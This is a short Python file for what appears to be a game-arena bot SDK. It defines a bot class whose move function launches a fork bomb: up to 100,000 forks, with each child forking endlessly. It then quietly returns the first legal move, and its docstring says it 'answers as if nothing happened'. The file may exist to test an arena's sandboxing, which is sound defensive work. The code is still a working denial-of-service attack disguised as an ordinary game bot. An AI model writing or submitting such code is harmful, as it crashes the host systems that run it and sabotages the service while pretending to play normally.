"""Forks without end, then answers as if nothing happened."""

import contextlib
import os

from arena_sdk import Bot


class ForkBomb(Bot):
    def act(self, view, legal):
        for _ in range(100_000):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                while True:
                    with contextlib.suppress(OSError):
                        os.fork()
        return legal[0].code
